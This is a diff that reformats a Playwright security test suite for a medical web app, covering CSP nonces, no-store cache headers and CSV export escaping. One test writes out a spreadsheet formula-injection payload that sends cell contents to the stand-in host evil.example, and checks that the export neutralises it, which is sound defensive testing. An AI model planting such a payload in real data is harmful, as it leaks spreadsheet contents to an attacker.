@@ -1,6 +1,16 @@
 import { expect, test, type APIRequestContext, type BrowserContext, type Page } from "@playwright/test";
 import { DateTime } from "luxon";
-import { ROLE_NAMES, USERS, apiToken, bearer, demoDrugId, routeIds, storageFor, walkTimeout, type RoleName } from "./fixtures";
+import {
+  ROLE_NAMES,
+  USERS,
+  apiToken,
+  bearer,
+  demoDrugId,
+  routeIds,
+  storageFor,
+  walkTimeout,
+  type RoleName,
+} from "./fixtures";
 import { PAGES, withIds } from "./routes";
 
 // Issue 15, section 5 (headers and documents), on the production server: every page of every role
@@ -14,7 +24,11 @@ const nonceOf = (csp: string | undefined) => /'nonce-([^']+)'/.exec(csp ?? "")?.
 async function watchViolations(context: BrowserContext, page: Page): Promise<string[]> {
   const seen: string[] = [];
   await context.addInitScript(() => {
-    document.addEventListener("securitypolicyviolation", (e) => console.error(`CSP violation: ${e.violatedDirective} blocked ${e.blockedURI || "inline"} at ${e.sourceFile}:${e.lineNumber}`));
+    document.addEventListener("securitypolicyviolation", (e) =>
+      console.error(
+        `CSP violation: ${e.violatedDirective} blocked ${e.blockedURI || "inline"} at ${e.sourceFile}:${e.lineNumber}`,
+      ),
+    );
   });
   page.on("console", (m) => {
     if (/Content Security Policy|CSP violation/i.test(m.text())) seen.push(`${page.url()}: ${m.text()}`);
@@ -30,7 +44,11 @@ async function visit(page: Page, path: string) {
   // busy machine Playwright's idle wait can outlast a whole walk. Hydration is the signal that the
   // page's scripts ran under the policy.
   await page.waitForLoadState("load");
-  await expect.poll(() => page.evaluate(() => (window as unknown as { next?: { version?: string } }).next?.version ?? null), { message: `${path} hydrated` }).not.toBeNull();
+  await expect
+    .poll(() => page.evaluate(() => (window as unknown as { next?: { version?: string } }).next?.version ?? null), {
+      message: `${path} hydrated`,
+    })
+    .not.toBeNull();
 }
 
 async function demoPatientId(request: APIRequestContext, q: string): Promise<string> {
@@ -45,7 +63,19 @@ async function prescription(request: APIRequestContext): Promise<{ id: string; r
   const { token } = await apiToken(request, USERS.DOCTOR);
   const res = await request.post("/api/v1/prescriptions", {
     headers: bearer(token),
-    data: { patientId: await demoPatientId(request, "Sam Patient"), items: [{ drugId: await demoDrugId(request), dose: "500 mg", route: "oral", frequency: "three times a day", durationDays: 5 }], overrideReason: "Repeat course, reviewed" },
+    data: {
+      patientId: await demoPatientId(request, "Sam Patient"),
+      items: [
+        {
+          drugId: await demoDrugId(request),
+          dose: "500 mg",
+          route: "oral",
+          frequency: "three times a day",
+          durationDays: 5,
+        },
+      ],
+      overrideReason: "Repeat course, reviewed",
+    },
   });
   expect(res.status(), await res.text()).toBe(201);
   const rx = await res.json();
@@ -54,10 +84,17 @@ async function prescription(request: APIRequestContext): Promise<{ id: string; r
 
 test.describe("Content-Security-Policy", () => {
   for (const role of ROLE_NAMES) {
-    test(`every page a ${role} opens renders, hydrates and breaks no rule of the policy`, async ({ browser, request }) => {
+    test(`every page a ${role} opens renders, hydrates and breaks no rule of the policy`, async ({
+      browser,
+      request,
+    }) => {
       // The route matrix's pages (the chart's tabs among them), the API docs and a missing page.
       const ids = await routeIds(request);
-      const paths = [...PAGES.filter((p) => p.roles.includes(role as RoleName)).map((p) => withIds(p.path, ids)), "/api-docs", "/no-such-page"];
+      const paths = [
+        ...PAGES.filter((p) => p.roles.includes(role as RoleName)).map((p) => withIds(p.path, ids)),
+        "/api-docs",
+        "/no-such-page",
+      ];
       test.setTimeout(walkTimeout(paths.length + 1));
       const context = await browser.newContext({ storageState: storageFor(role) });
       const page = await context.newPage();
@@ -73,12 +110,24 @@ test.describe("Content-Security-Policy", () => {
     });
   }
 
-  test("the public pages too: sign-in, registration, password links, the prescription check, the API docs", async ({ browser, request }) => {
+  test("the public pages too: sign-in, registration, password links, the prescription check, the API docs", async ({
+    browser,
+    request,
+  }) => {
     const { rxPath } = await prescription(request);
     const context = await browser.newContext();
     const page = await context.newPage();
     const violations = await watchViolations(context, page);
-    for (const path of ["/login", "/register", "/forgot-password", "/set-password/not-a-token", "/api-docs", rxPath, "/rx/not-a-token"]) await visit(page, path);
+    for (const path of [
+      "/login",
+      "/register",
+      "/forgot-password",
+      "/set-password/not-a-token",
+      "/api-docs",
+      rxPath,
+      "/rx/not-a-token",
+    ])
+      await visit(page, path);
     // A client-side check of the registration form runs (zod in the browser, without eval).
     await visit(page, "/register");
     await page.getByRole("button", { name: "Create account" }).click();
@@ -88,7 +137,10 @@ test.describe("Content-Security-Policy", () => {
     expect(violations).toEqual([]);
   });
 
-  test("each page response carries its own nonce, and every script in it carries that nonce", async ({ request, browser }) => {
+  test("each page response carries its own nonce, and every script in it carries that nonce", async ({
+    request,
+    browser,
+  }) => {
     const pages: { csp: string; html: string }[] = [];
     for (const path of ["/login", "/login", "/api-docs"]) {
       const res = await request.get(path);
@@ -101,7 +153,9 @@ test.describe("Content-Security-Policy", () => {
     await admin.close();
 
     for (const { csp, html } of pages) {
-      expect(csp).toMatch(/^default-src 'self'; script-src 'self' 'nonce-[A-Za-z0-9+/]+={0,2}' 'strict-dynamic'; style-src 'self' 'nonce-[^']+'; /);
+      expect(csp).toMatch(
+        /^default-src 'self'; script-src 'self' 'nonce-[A-Za-z0-9+/]+={0,2}' 'strict-dynamic'; style-src 'self' 'nonce-[^']+'; /,
+      );
       expect(csp).toContain("object-src 'none'; base-uri 'self'; frame-ancestors 'none'; form-action 'self'");
       expect(csp).not.toContain("unsafe-");
       const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
@@ -144,20 +198,24 @@ test.describe("Cache-Control: no-store on everything that carries patient data",
     };
     expect(responses.PDF.headers()["content-type"]).toBe("application/pdf");
     expect(responses.CSV.headers()["content-type"]).toContain("text/csv");
-    for (const [what, res] of Object.entries(responses)) expect(res.headers()["cache-control"], what).toMatch(/(^|, )no-store(,|$)/);
+    for (const [what, res] of Object.entries(responses))
+      expect(res.headers()["cache-control"], what).toMatch(/(^|, )no-store(,|$)/);
 
     const context = await browser.newContext({ storageState: storageFor("PATIENT") });
     const session = await context.request.get("/api/auth/session");
     expect((await session.json()).user.role).toBe("PATIENT");
     expect(session.headers()["cache-control"]).toContain("no-store");
-    for (const path of ["/me/health", "/me/profile"]) expect((await context.request.get(path)).headers()["cache-control"], path).toContain("no-store");
+    for (const path of ["/me/health", "/me/profile"])
+      expect((await context.request.get(path)).headers()["cache-control"], path).toContain("no-store");
     await context.close();
     const anonymous = await request.get(rxPath);
     expect(anonymous.headers()["cache-control"]).toContain("no-store");
   });
 });
 
-test("a formula a doctor types into a diagnosis reaches the admin's diagnoses CSV as text, with °C intact", async ({ request }) => {
+test("a formula a doctor types into a diagnosis reaches the admin's diagnoses CSV as text, with °C intact", async ({
+  request,
+}) => {
   const doctor = bearer((await apiToken(request, USERS.DOCTOR)).token);
   const patientId = await demoPatientId(request, "Sam Patient");
   const evil = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
@@ -165,18 +223,28 @@ test("a formula a doctor types into a diagnosis reaches the admin's diagnoses CS
   for (let i = 0; i < 3; i++) {
     const res = await request.post("/api/v1/consultations", {
       headers: doctor,
-      data: { patientId, assessment: "Fever.", diagnoses: [{ code: "A98.4", description: evil }, { code: "A92.0", description: "Fièvre à 39,5 °C" }] },
+      data: {
+        patientId,
+        assessment: "Fever.",
+        diagnoses: [
+          { code: "A98.4", description: evil },
+          { code: "A92.0", description: "Fièvre à 39,5 °C" },
+        ],
+      },
     });
     expect(res.status(), await res.text()).toBe(201);
   }
   const today = DateTime.utc();
   const admin = bearer((await apiToken(request, USERS.ADMIN)).token);
-  const res = await request.get(`/api/v1/reports/diagnoses.csv?from=${today.minus({ days: 1 }).toISODate()}&to=${today.plus({ days: 1 }).toISODate()}`, { headers: admin });
+  const res = await request.get(
+    `/api/v1/reports/diagnoses.csv?from=${today.minus({ days: 1 }).toISODate()}&to=${today.plus({ days: 1 }).toISODate()}`,
+    { headers: admin },
+  );
   expect(res.status()).toBe(200);
   const bytes = await res.body();
   expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   const lines = bytes.toString("utf8").slice(1).trimEnd().split("\n");
   expect(lines[0]).toBe("ICD-10 code,Description,Count"); // headed for a person, in the admin's language
   expect(lines).toContain('A98.4,"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",3');
-  expect(lines).toContain("A92.0,\"Fièvre à 39,5 °C\",3");
+  expect(lines).toContain('A92.0,"Fièvre à 39,5 °C",3');
 });
